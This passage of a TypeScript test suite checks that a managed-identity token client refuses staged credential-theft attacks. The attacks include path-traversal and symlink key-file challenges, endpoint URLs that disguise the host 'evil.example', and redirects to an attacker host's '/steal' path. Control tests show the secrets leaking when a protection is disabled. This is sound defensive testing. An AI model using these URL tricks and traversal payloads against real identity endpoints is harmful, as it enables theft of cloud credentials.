  /** Everything the attacker's side received (requests, decrypted bytes), as text. */
  attackerSaw(): Promise<string>;
  /** The attacker must have received nothing at all, not even a request without secrets. */
  nothing: boolean;
  /** Further proof, such as "no key file was read". */
  verify?(): void;
  cleanup?(): Promise<void>;
}

/** One row: the attack, the error it must end in, and the check that refused it. */
interface Attack {
  name: string;
  code: ManagedIdentityErrorCode;
  /** Names the protection that refused it, so a row fails when that protection goes. */
  message: RegExp;
  arrange(): Promise<Trap>;
}

/** What the attacker controls in these attacks. */
interface AttackKit {
  /** A local endpoint the attacker controls (a fake Arc agent) or that redirects. */
  agent: TestServer;
  /** Another host (127.0.0.2), where redirects and tricked endpoints point. */
  attacker: RecordingServer;
}
let kit: AttackKit;

// Arc key files an attacking agent may point at; each holds a secret the attacker wants.
const STOLEN = secret();
const TXT = secret();
const BIG = secret();
await writeFile(`${elsewhere}stolen.key`, STOLEN.value);
await writeFile(`${tokensFolder}good.txt`, TXT.value);
await writeFile(`${tokensFolder}big.key`, BIG.value.padEnd(4097, "k"));
await symlink(`${elsewhere}stolen.key`, `${tokensFolder}out.key`);
await symlink(elsewhere, `${tokensFolder}subfolder`);

/** A platform that records every file operation, to prove what was (not) read. */
function recordingPlatform(operations: string[], overrides: Partial<Platform> = {}): Platform {
  const base = nodePlatform(overrides);
  const realPath = base.realPath as NonNullable<Platform["realPath"]>;
  const readTextFile = base.readTextFile as NonNullable<Platform["readTextFile"]>;
  return {
    ...base,
    realPath: (path) => {
      operations.push(`realPath ${path}`);
      return realPath(path);
    },
    readTextFile: async (path, options) => {
      try {
        const text = await readTextFile(path, options);
        operations.push(`read ${path}`);
        return text;
      } catch (error) {
        operations.push(`refused ${path}`);
        throw error;
      }
    },
  };
}

/**
 * A fake Arc agent challenging with `challenge` (the attacker names any file it likes). Proof:
 * the agent never gets a second, keyed request, and no file's contents are read — `files` says
 * how far the client may go: touch nothing, only resolve the path, or have the read refused.
 */
function arc(row: {
  name: string;
  challenge: string | undefined;
  code: ManagedIdentityErrorCode;
  message: RegExp;
  files: "none" | "resolved only" | "read refused";
  os?: Platform["os"];
}): Attack {
  return {
    name: `azure-arc: ${row.name}`,
    code: row.code,
    message: row.message,
    async arrange() {
      const { agent } = kit;
      agent.requests.length = 0;
      agent.handle((request): Reply => {
        if (request.headers.authorization !== undefined) {
          return { body: { access_token: "t", expires_in: 3600, token_type: "Bearer" } };
        }
        return {
          status: 401,
          headers: row.challenge === undefined ? {} : { "www-authenticate": row.challenge },
        };
      });
      const operations: string[] = [];
      return {
        client: new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
          env: { IDENTITY_ENDPOINT: `${agent.url}${TOKEN_PATH}`, IMDS_ENDPOINT: agent.url },
          platform: recordingPlatform(operations, row.os ? { os: row.os } : {}),
          retry: false,
        }),
        secrets: [ARC_KEY, STOLEN, TXT, BIG],
        attackerSaw: async () => JSON.stringify(agent.requests),
        nothing: false,
        verify() {
          // At most the first, unauthenticated request: the key never went back to the agent.
          expect(agent.requests.length).toBeLessThanOrEqual(1);
          for (const request of agent.requests)
            expect(request.headers.authorization).toBeUndefined();
          expect(operations.filter((operation) => operation.startsWith("read "))).toEqual([]);
          if (row.files === "none") expect(operations).toEqual([]);
          if (row.files === "resolved only")
            expect(operations.every((operation) => operation.startsWith("realPath "))).toBe(true);
          if (row.files === "read refused")
            expect(operations.some((operation) => operation.startsWith("refused "))).toBe(true);
        },
      };
    },
  };
}

/**
 * An endpoint variable holding a host trick. The trick's host name resolves to the attacker's
 * server (see routingFetch), so a missing check would hand the attacker the request for real.
 */
function host(row: {
  name: string;
  source: ManagedIdentitySource;
  trickHost: string;
  env(trickHost: string): Record<string, string>;
  secrets: Secret[];
  message?: RegExp;
}): Attack {
  return {
    name: `${row.source}: ${row.name}`,
    code: "endpoint_not_allowed",
    message: row.message ?? /neither loopback nor link-local/,
    async arrange() {
      const { attacker } = kit;
      attacker.received.length = 0;
      return {
        client: new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
          env: row.env(row.trickHost),
          source: row.source,
          platform: nodePlatform(),
          fetch: routingFetch({ [row.trickHost]: attacker.url }),
          retry: false,
        }),
        secrets: row.secrets,
        attackerSaw: async () => attacker.text(),
        nothing: true,
      };
    },
  };
}

/**
 * The legitimate local endpoint answers 307 to the attacker's host (127.0.0.2). The endpoint
 * itself gets the request (with its secret, as it should); the redirect target gets nothing.
 */
function redirect(row: {
  source: ManagedIdentitySource;
  env(endpointUrl: string): Record<string, string>;
  secrets: Secret[];
  fetch?(endpointUrl: string): FetchLike;
}): Attack {
  return {
    name: `${row.source}: a redirect to another host`,
    code: "redirect_refused",
    message: /never follow redirects/,
    async arrange() {
      const { agent, attacker } = kit;
      agent.requests.length = 0;
      attacker.received.length = 0;
      agent.handle((request): Reply => {
        if (row.source === "azure-arc" && request.headers.authorization === undefined) {
          return {
            status: 401,
            headers: { "www-authenticate": `Basic realm=${tokensFolder}good.key` },
          };
        }
        return { status: 307, headers: { location: `${attacker.url}${request.path}` } };
      });
      return {
        client: new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
          env: row.env(agent.url),
          source: row.source,
          platform: nodePlatform(),
          retry: false,
          ...(row.fetch ? { fetch: row.fetch(agent.url) } : {}),
        }),
        secrets: row.secrets,
        attackerSaw: async () => attacker.text(),
        nothing: true,
        verify() {
          expect(JSON.stringify(agent.requests)).toContain(row.secrets[0]?.core ?? "");
        },
      };
    },
  };
}

/**
 * Service Fabric against a raw TLS server that records every decrypted byte. With the impostor's
 * certificate the server is the attacker and must receive nothing; with the right certificate it
 * answers `respond` (a redirect) and the redirect target must receive nothing.
 */
function serviceFabric(row: {
  name: string;
  certificate: Awaited<ReturnType<typeof createCertificate>>;
  code: ManagedIdentityErrorCode;
  message: RegExp;
  respond?(attackerUrl: string): string;
}): Attack {
  return {
    name: `service-fabric: ${row.name}`,
    code: row.code,
    message: row.message,
    async arrange() {
      const { attacker } = kit;
      attacker.received.length = 0;
      const respond = row.respond;
      const raw = await startRawTlsServer(
        row.certificate,
        respond ? () => respond(attacker.url) : undefined,
      );
      return {
        client: new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
          env: {
            IDENTITY_ENDPOINT: `${raw.url}${TOKEN_PATH}`,
            IDENTITY_HEADER: SF_SECRET.value,
            IDENTITY_SERVER_THUMBPRINT: certificate.fingerprint,
          },
          retry: false,
        }),
        secrets: [SF_SECRET],
        async attackerSaw() {
          await Promise.all(raw.connections.map((connection) => connection.closed));
          return respond ? attacker.text() : raw.connections.map(receivedText).join("");
        },
        nothing: true,
        verify() {
          expect(raw.connections).toHaveLength(1);
          if (respond) expect(receivedText(raw.connections[0])).toContain(SF_SECRET.core);
        },
        cleanup: () => raw.close(),
      };
    },
  };
}

const NOT_IN_FOLDER = /is not in the Azure Arc tokens folder/;
const NOT_BASIC = /is not `Basic realm=/;
const appService = (url: string) => ({
  IDENTITY_ENDPOINT: url,
  IDENTITY_HEADER: APP_SERVICE_SECRET.value,
});

/** Every attack, one row each. */
// biome-ignore format: one line per attack keeps the table a table
const ATTACKS: Attack[] = [
  // Azure Arc: the agent's 401 names a key file; the client reads it and sends its contents.
  arc({ name: "wrong extension", challenge: `Basic realm=${tokensFolder}good.txt`, code: "invalid_response", message: /is not a \.key file/, files: "none" }),
  arc({ name: "'..' traversal", challenge: `Basic realm=${tokensFolder}../elsewhere/stolen.key`, code: "invalid_response", message: /contains '\.\.'/, files: "none" }),
  arc({ name: "another folder", challenge: `Basic realm=${elsewhere}stolen.key`, code: "invalid_response", message: NOT_IN_FOLDER, files: "none" }),
  arc({ name: "an extra folder level", challenge: `Basic realm=${tokensFolder}subfolder/stolen.key`, code: "invalid_response", message: NOT_IN_FOLDER, files: "none" }),
  arc({ name: "a relative path", challenge: "Basic realm=good.key", code: "invalid_response", message: NOT_IN_FOLDER, files: "none" }),
  arc({ name: "a symbolic link leading out of the folder", challenge: `Basic realm=${tokensFolder}out.key`, code: "invalid_response", message: /symbolic link that leads outside/, files: "resolved only" }),
  arc({ name: "a key file of 4097 bytes", challenge: `Basic realm=${tokensFolder}big.key`, code: "invalid_response", message: /larger than 4096 bytes/, files: "read refused" }),
  arc({ name: "a 401 without WWW-Authenticate", challenge: undefined, code: "invalid_response", message: /without a WWW-Authenticate header/, files: "none" }),
  arc({ name: "a Bearer challenge", challenge: `Bearer realm=${tokensFolder}good.key`, code: "invalid_response", message: NOT_BASIC, files: "none" }),
  arc({ name: "a Basic challenge without a realm", challenge: "Basic", code: "invalid_response", message: NOT_BASIC, files: "none" }),
  arc({ name: "an unsupported operating system", challenge: `Basic realm=${tokensFolder}good.key`, code: "capability_unavailable", message: /Linux and Windows only, not on darwin/, files: "none", os: "darwin" }),
  // Service Fabric: the pin is the trust anchor; the secret is written only after it matched.
  serviceFabric({ name: "a certificate that does not match the pin", certificate: impostor, code: "certificate_mismatch", message: /not the pinned one; nothing was sent/ }),
  // Endpoint hosts from the environment must be loopback or link-local.
  host({ name: "userinfo http://127.0.0.1@evil.example", source: "app-service", trickHost: "evil.example", env: (h) => appService(`http://127.0.0.1@${h}/msi/token`), secrets: [APP_SERVICE_SECRET], message: /must not contain a user name or password/ }),
  host({ name: "suffix 169.254.169.254.evil.example", source: "app-service", trickHost: "169.254.169.254.evil.example", env: (h) => appService(`http://${h}/msi/token`), secrets: [APP_SERVICE_SECRET] }),
  host({ name: "fragment http://evil.example#@127.0.0.1", source: "app-service", trickHost: "evil.example", env: (h) => appService(`http://${h}#@127.0.0.1/msi/token`), secrets: [APP_SERVICE_SECRET] }),
  host({ name: "a non-local host over https", source: "app-service", trickHost: "evil.example", env: (h) => appService(`https://${h}/msi/token`), secrets: [APP_SERVICE_SECRET] }),
  host({ name: "suffix 127.0.0.1.evil.example", source: "imds", trickHost: "127.0.0.1.evil.example", env: (h) => ({ AZURE_POD_IDENTITY_AUTHORITY_HOST: `http://${h}` }), secrets: [] }),
  host({ name: "a non-local host", source: "machine-learning", trickHost: "ml.evil.example", env: (h) => ({ MSI_ENDPOINT: `http://${h}/msi/token`, MSI_SECRET: ML_SECRET.value }), secrets: [ML_SECRET] }),
  host({ name: "a private-network host", source: "cloud-shell", trickHost: "10.0.0.1", env: (h) => ({ MSI_ENDPOINT: `http://${h}/oauth2/token` }), secrets: [] }),
  host({ name: "a non-local host", source: "azure-arc", trickHost: "arc.evil.example", env: (h) => ({ IDENTITY_ENDPOINT: `http://${h}${TOKEN_PATH}`, IMDS_ENDPOINT: `http://${h}` }), secrets: [] }),
  // Workload identity's authority may be any host, but only over https.
  host({ name: "an http authority", source: "workload-identity", trickHost: "login.microsoftonline.com", env: (h) => ({ ...ISOLATION_ENV["workload-identity"], AZURE_AUTHORITY_HOST: `http://${h}` }), secrets: [ASSERTION], message: /must use https/ }),
  // Redirects are never followed: the target receives nothing.
  redirect({ source: "app-service", env: (url) => appService(`${url}/msi/token`), secrets: [APP_SERVICE_SECRET] }),
  redirect({ source: "machine-learning", env: (url) => ({ MSI_ENDPOINT: `${url}/msi/token`, MSI_SECRET: ML_SECRET.value }), secrets: [ML_SECRET] }),
  redirect({ source: "cloud-shell", env: (url) => ({ MSI_ENDPOINT: `${url}/oauth2/token` }), secrets: [] }),
  redirect({ source: "azure-arc", env: (url) => ({ IDENTITY_ENDPOINT: `${url}${TOKEN_PATH}`, IMDS_ENDPOINT: url }), secrets: [ARC_KEY] }),
  redirect({ source: "imds", env: (url) => ({ AZURE_POD_IDENTITY_AUTHORITY_HOST: url }), secrets: [] }),
  redirect({ source: "workload-identity", env: () => ISOLATION_ENV["workload-identity"], secrets: [ASSERTION], fetch: (url) => routingFetch({ [AUTHORITY_HOST]: url }) }),
  serviceFabric({ name: "a redirect to another host", certificate, code: "redirect_refused", message: /never follow redirects/, respond: (target) => `HTTP/1.1 307 Temporary Redirect\r\nlocation: ${target}/steal\r\ncontent-length: 0\r\nconnection: close\r\n\r\n` }),
];

describe("attacks", () => {
  beforeAll(async () => {
    const [agent, attacker] = await Promise.all([startServer(), startRecordingServer("127.0.0.2")]);
    kit = { agent, attacker };
  });
  afterAll(() => Promise.all([kit.agent.close(), kit.attacker.close()]));

  it.each(ATTACKS.map((attack) => [attack.name, attack.code, attack] as const))(
    "%s → %s, and nothing secret reaches the attacker",
    async (_name, _code, attack) => {
      const trap = await attack.arrange();
      try {
        const error = await failure(trap.client.acquireTokenForClient({ resource: RESOURCE }));
        expect(error.code).toBe(attack.code);
        expect(error.message).toMatch(attack.message);
        expect(findLeaks(errorViews(error), trap.secrets)).toEqual([]);
        const saw = await trap.attackerSaw();
        if (trap.nothing) expect(saw).toMatch(/^(\[\])?$/);
        expect(findLeaks([["the attacker's side", saw]], trap.secrets)).toEqual([]);
        trap.verify?.();
      } finally {
        await trap.cleanup?.();
      }
    },
  );

  describe("controls: each trap is live", () => {
    it("the routed evil.example really reaches the attacker, secret and all, when the host is allowed", async () => {
      kit.attacker.received.length = 0;
      const client = new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
        env: {
          IDENTITY_ENDPOINT: "http://evil.example/msi/token",
          IDENTITY_HEADER: APP_SERVICE_SECRET.value,
        },
        fetch: routingFetch({ "evil.example": kit.attacker.url }),
        allowedHosts: ["evil.example"],
        retry: false,
      });
      await expect(client.acquireTokenForClient({ resource: RESOURCE })).resolves.toMatchObject({
        accessToken: "attacker-token",
      });
      expect(kit.attacker.text()).toContain(APP_SERVICE_SECRET.core);
    });

    it("a fetch that follows redirects would deliver the request to the redirect target", async () => {
      kit.attacker.received.length = 0;
      kit.agent.handle(() => ({ status: 307, headers: { location: `${kit.attacker.url}/steal` } }));
      const response = await fetch(`${kit.agent.url}/msi/token`, {
        headers: { "X-IDENTITY-HEADER": APP_SERVICE_SECRET.value },
      });
      expect(response.status).toBe(200);
      expect(kit.attacker.text()).toContain(APP_SERVICE_SECRET.core);
    });

    it("the Arc agent would receive the key of a file in the tokens folder", async () => {
      kit.agent.requests.length = 0;
      kit.agent.handle((request) =>
        request.headers.authorization === undefined
          ? { status: 401, headers: { "www-authenticate": `Basic realm=${tokensFolder}good.key` } }
          : { body: { access_token: "t", expires_in: 3600, token_type: "Bearer" } },
      );
      const client = new ManagedIdentityClient(new SystemAssignedManagedIdentity(), {
        env: { IDENTITY_ENDPOINT: `${kit.agent.url}${TOKEN_PATH}`, IMDS_ENDPOINT: kit.agent.url },
        platform: nodePlatform(),
        retry: false,
      });
      await client.acquireTokenForClient({ resource: RESOURCE });
      expect(kit.agent.requests[1]?.headers.authorization).toBe(`Basic ${ARC_KEY.value}`);
    });
  });
});
